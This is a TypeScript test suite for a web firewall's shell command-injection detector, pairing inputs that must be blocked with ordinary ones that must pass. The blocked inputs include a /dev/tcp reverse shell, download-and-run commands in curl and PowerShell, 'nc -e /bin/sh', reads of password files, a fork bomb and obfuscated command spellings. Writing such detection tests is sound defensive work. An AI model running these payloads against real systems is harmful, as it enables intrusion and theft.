import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Finding, Input } from '../types.js';
import { shellDetector, shellFindings } from './shell.js';

/** The anomaly score a value earns at a paranoia level (a rule counts once, as in the engine). */
function score(value: string, pl = 2): number {
  const seen = new Set<string>();
  let total = 0;
  for (const f of shellFindings(value)) {
    if (f.pl > pl || seen.has(f.rule)) continue;
    seen.add(f.rule);
    total += f.score;
  }
  return total;
}

function rules(value: string): string[] {
  return shellFindings(value).map((f) => f.rule);
}

describe('shell detector: command lines that must block', () => {
  const attacks: [string, string][] = [
    ['separator then a recon command', 'report.pdf; id'],
    ['pipe into a recon command', 'example.org | whoami'],
    ['and-chain with flags', 'x && uname -a'],
    ['newline then a command on a system file', 'hello\ncat /etc/passwd'],
    ['dollar substitution', 'name=$(hostname)'],
    ['backquote substitution after =', 'user=`whoami`'],
    ['process substitution', 'diff <(ls /tmp) b'],
    ['quote-split command name', "n; w'h'o'a'm'i"],
    ['backslash-split command name', 'n; c\\a\\t /etc/hosts'],
    ['empty-variable padding', 'n;c$@at /etc/group'],
    ['${IFS} instead of spaces', 'cat${IFS}/etc/issue'],
    ['glob spelling of a binary', 'x;/b??/c?t /etc/hosts'],
    ['bracket spelling of a path', '/e[t]c/pa[s]swd'],
    ['reverse shell over /dev/tcp', 'bash -i >& /dev/tcp/192.0.2.7/9001 0>&1'],
    ['download piped to a shell', 'curl -s http://203.0.113.9/x | sh'],
    ['shell handed code', 'sh -c "id"'],
    ['interpreter handed code', "python3 -c 'import os'"],
    ['binary by its system path', '/usr/bin/id -u'],
    ['shellshock function', '() { :; }; /bin/true'],
    ['brace expansion', '{cat,/etc/hosts}'],
    ['variables assembling a command', 'a=who;b=ami;$a$b'],
    ['fork bomb', 'b(){ b|b& };b'],
    ['alias definition', 'alias x=id'],
    ['PowerShell download', 'Invoke-WebRequest -Uri http://198.51.100.2/a.ps1'],
    ['PowerShell .NET loader', "IEX (New-Object Net.WebClient).DownloadString('http://x/y')"],
    ['cmd handed code', 'cmd /c whoami'],
    ['Windows FOR loop', 'FOR /L %n IN (1,1,9) DO ping localhost'],
    ['Windows IF EXIST', 'IF EXIST C:\\boot.ini TYPE C:\\boot.ini'],
    ['Windows caret evasion', 'x & w^h^o^a^m^i'],
    ['%COMSPEC%', '%COMSPEC% /c dir'],
    ['server-side include exec', '<!--#exec cmd="ls" -->'],
    ['injected SMTP command', 'subject\r\nRCPT TO:<victim@example.org>'],
    ['attribute value starting a command', '<a title="cat /etc/passwd"></a>'],
    ['empty substitution inside a word', 'who$()ami;'],
    ['single quote break-out', "'; uname -a; '"],
  ];
  for (const [what, value] of attacks) {
    it(`blocks ${what}`, () => assert.ok(score(value) >= 5, `${value} → ${rules(value).join(', ')}`));
  }

  it('blocks the unmistakable shapes at paranoia level 1 already', () => {
    for (const v of ['x; cat /etc/passwd', '$(whoami)', 'c"a"t /etc/shadow', 'nc -e /bin/sh 192.0.2.1 80'])
      assert.ok(score(v, 1) >= 5, v);
  });
});

describe('shell detector: ordinary values that must pass', () => {
  const benign: [string, string][] = [
    ['a name with an apostrophe', "O'Brien"],
    ['prose with separators', 'Tom & Jerry; cats | dogs, more or less'],
    ['a contraction that spells a command', "I'd cat-sit for you; more later"],
    ['command words as words', 'cat pictures, find my phone, time to go home'],
    ['a job title', 'head of sales & marketing'],
    ['CI build steps', 'npm ci && npm run build'],
    ['a test script', 'node --test'],
    ['a docker build', 'docker build -t app:latest .'],
    ['Markdown inline code', 'Run `ls` in the folder, then `npm start`.'],
    ['a Markdown fence', 'Example:\n```bash\nmake test\n```'],
    [
      'a browser user agent',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)',
    ],
    ['a GraphQL query', 'query Me { me { id name teams { id } } }'],
    ['Python', 'if x == 1:\n    print(x)'],
    ['JavaScript', 'for (let i = 0; i < n; i++) { if (a == b) { sum += i; } }'],
    ['jQuery', '$(document).ready(function () { $(this).hide(); });'],
    ['an HTML table', '<table><tr><td>Pro</td><td>€12</td></tr></table>'],
    ['a Windows path', 'C:\\Users\\me\\Documents\\report.docx'],
    ['search queries about tools', 'ssh keys tutorial'],
    ['a price', 'from $5 & up (tax incl.)'],
    ['a template', 'Hello ${name}, your order ${id} shipped'],
    ['a quoted reply', '> Nice & simple; setup took < 5 minutes\n> Sent from my phone'],
    ['a vCard line', "ORG:Eddie's Bar & Grill\r\nTEL;TYPE=CELL:+61 4 1234 5678"],
    ['a date', '2024-01-01T10:00:00Z'],
    ['a URL with a query', 'https://example.com/search?q=cat+food&sort=price'],
    ['a JSON path', '$[0].items[*].id'],
  ];
  for (const [what, value] of benign) {
    it(`passes ${what}`, () => assert.equal(score(value), 0, `${value} → ${rules(value).join(', ')}`));
  }
});

describe('shell detector: file uploads', () => {
  const input = (location: Input['location'], name: string, value: string): Input => ({
    location,
    name,
    value,
  });

  it('flags shell start-up and credential files by name', () => {
    for (const [loc, name, value] of [
      ['filename', 'f', '.bashrc'],
      ['header', 'x-filename', 'authorized_keys'],
      ['filename', 'f', 'wp-config.php.bak'],
    ] as const) {
      const out: Finding[] = [];
      shellDetector.detect(value, input(loc, name, value), out);
      assert.ok(
        out.some((f) => f.rule === 'rce-config-upload'),
        value,
      );
    }
  });

  it('leaves ordinary file names and other headers alone', () => {
    const out: Finding[] = [];
    shellDetector.detect('holiday.jpg', input('filename', 'f', 'holiday.jpg'), out);
    shellDetector.detect('.bashrc', input('header', 'referer', '.bashrc'), out);
    assert.deepEqual(out, []);
  });
});

describe('shell detector: robustness', () => {
  it('never throws and only reports rce rules', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (s) => {
        for (const f of shellFindings(s)) assert.ok(f.rule.startsWith('rce-') && f.family === 'rce');
      }),
    );
  });

  it('ignores ordinary words joined by prose punctuation', () => {
    const words = ['the', 'order', 'shipped', 'friday', 'and', 'price', 'was', 'fine', 'we', 'will', 'call'];
    const glue = [' ', ', ', '; ', ' & ', '. ', '\n', ' (', ') '];
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom(...words), fc.constantFrom(...glue)), { maxLength: 30 }),
        (parts) => {
          const v = parts.map(([w, g]) => w + g).join('');
          assert.equal(score(v, 3), 0, v);
        },
      ),
    );
  });

  it('stays linear on pathological input', () => {
    for (const unit of [
      '<a',
      '${',
      '$ {',
      '\n.',
      '(',
      "c'a't ",
      ';',
      '`',
      'for %a in (',
      '{a,',
      '/[',
      'a=b;',
    ]) {
      const v = unit.repeat(Math.ceil(100_000 / unit.length));
      const t = performance.now();
      shellFindings(v);
      assert.ok(performance.now() - t < 500, `${JSON.stringify(unit)} took too long`);
    }
  });
});

describe('shell detector: the head pre-filter skips words without changing verdicts', () => {
  it('still sees heads reached through assignments, versions, .exe, upper case and two-letter names', () => {
    for (const v of [
      'a=nc&&$a -nlvp 555',
      'x; python3.11 -c "import os"',
      'x | NC.exe -e cmd 10.0.0.1 80',
      'report.pdf; id',
      'x;ls -la /etc',
      'x && id3',
    ])
      assert.deepEqual(rules(v), rules(v.replace('report.pdf', 'other.pdf')), v);
    assert.ok(score('a=nc&&$a -nlvp 555') >= 5);
    assert.ok(score('report.pdf; id') >= 5);
    assert.ok(score('x;ls -la /etc') >= 5);
  });
  it('reads words the way the tokenizer does: "+" as a space, ">&1" ending a word, quotes inside', () => {
    assert.ok(rules('|id+').includes('rce-command-chain'));
    assert.ok(rules('>&1sh').includes('rce-command-line'));
    assert.ok(score("x; c'a't /etc/passwd") >= 5);
    assert.ok(score('probe=";id"') >= 5);
  });
  it('lets prose and browser strings through cheaply', () => {
    const ua = 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0';
    assert.equal(score(ua), 0);
    const t = performance.now();
    for (let i = 0; i < 20_000; i++) shellFindings(ua);
    assert.ok(performance.now() - t < 2_000);
  });
});

describe('shell detector: separators, expansions and binary paths (paranoia 2)', () => {
  const attacks: [string, string][] = [
    ['a value opening with a separator and a word-like command', ';who'],
    ['the same behind a closing quote', "';set'"],
    ['a word-like command with words after an opening separator', ';top Something else'],
    ['a scheduled command after an opening separator', ';at 2:00 "echo test"'],
    ['a semicolon glued to the next command', 'After ;top'],
    ['a semicolon glued to a tool with arguments', 'x ;wget -q x'],
    ['word-like commands chained', 'cd /;cd etc;comm passwd passwd'],
    ['an expansion as the command after a pipe', 'echo | ${cc7}cc7'],
    ['the directory stack', '~+'],
    ['the previous directory with an index', '~-1'],
    ['a directory-stack path', '~+/x'],
    ['history events', '!-1!-2'],
    ['brace alternatives glued into a command name', 'c{a,oun}t'],
    ['prefix removal', '${x#{}}'],
    ['a substring of PATH', '${PATH:0:1}'],
    ['a default value', '${:1337:-x}'],
    ['a replacement', '${v//a/b}'],
    ['a length', '${#HOME}'],
    ['arithmetic expansion', '$((7))z -x'],
    ['an absolute binary path alone', '/bin/ab'],
    ['a binary under /usr/local', '/usr/local/sbin/tool'],
    ['a relative bin path to a known tool', 'bin/visudo'],
    [
      'a command line spelled from assigned variables',
      'c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;$c1$c2$c3$c4$a1$a2\n',
    ],
  ];
  for (const [name, v] of attacks) it(name, () => assert.ok(score(v, 2) >= 5, `${v}: ${rules(v)}`));

  const benign: [string, string][] = [
    ['prose semicolons', 'a; set b'],
    ['a sloppy semicolon before a word-like command with words', 'see chapter ;at home'],
    ['an emoticon', ';)'],
    ['a separator after an empty command', '; ;top'],
    ['an opening separator then prose', '; hello world'],
    ['an opening separator then a variable', ';$a $b $c'],
    ['an approximate number', '~0'],
    ['an approximate negative', '~-5 degrees'],
    ['tilde home paths', '~/notes.txt'],
    ['exclamations', 'wow!!'],
    ['a countdown', '!-1 left'],
    ['brace globs in file names', 'src/*.{js,ts}'],
    ['a brace list of words', '{cat,dog}'],
    ['a template literal', 'Hello ${user.firstName}'],
    ['a placeholder with a default port', '${PORT:8080}'],
    ['a template with arithmetic', '${a % 2}'],
    ['a JSONPath', '$[0].name'],
    ['a project bin script', 'bin/rails'],
    ['a path under a home bin', '/home/bin/x y'],
    ['a bin directory in prose', 'the bin/ folder'],
    ['prices and pipes', 'price: $5 | $10'],
    ['and-chained names', 'Tom && Jerry'],
    ['shell words in a search query', 'ssh keys tutorial'],
  ];
  for (const [name, v] of benign)
    it(`leaves ${name} alone`, () => assert.equal(score(v, 2), 0, `${v}: ${rules(v)}`));
});

describe('shell detector: XML documents and batch loops', () => {
  const xml = (probe: string): Input => ({ location: 'xml', name: '', value: probe });
  function detected(value: string, input: Input): string[] {
    const out: Finding[] = [];
    shellDetector.detect(value, input, out);
    return out.map((f) => f.rule);
  }
  it('judges attribute values and text nodes one by one, references decoded', () => {
    const doc = (v: string) => `<?xml version="1.0"?><root><a probe="${v}"></a></root>`;
    for (const v of ['~+', '&#x7B;l,-lh&#x7D;s', '!-1!-2']) {
      const d = doc(v);
      assert.ok(detected(d, xml(d)).length > 0, v);
    }
    const text = '<?xml version="1.0"?><r><q>;who</q></r>';
    assert.ok(detected(text, xml(text)).length > 0);
  });
  it('leaves ordinary XML alone', () => {
    const d =
      '<?xml version="1.0"?><order id="42"><item sku="A-1">Rain jacket ~ size M</item><note>Leave at the door; thanks!</note></order>';
    assert.deepEqual(detected(d, xml(d)), []);
  });
  it('reads a FOR loop whose variable letter is left out', () => {
    assert.ok(score('FOR /F "tokens=1,2* delims=," %% IN (C:\\x~1\\y~1.txt) DO ECHO %%') >= 5);
    assert.equal(score('for 100% in (a) do it'), 0);
  });
});

describe('shell detector: IMAP commands with one-digit tags', () => {
  it('flags a tagged command with IMAP flags or a literal', () => {
    assert.ok(score('\r\nA1 APPEND saved-messages (\\Seen) {310}') >= 5);
  });
  it('leaves paper sizes and grid cells in prose alone', () => {
    assert.equal(score('x\nA4 copy paper'), 0);
    assert.equal(score('Row\nb2 select all'), 0);
  });
});
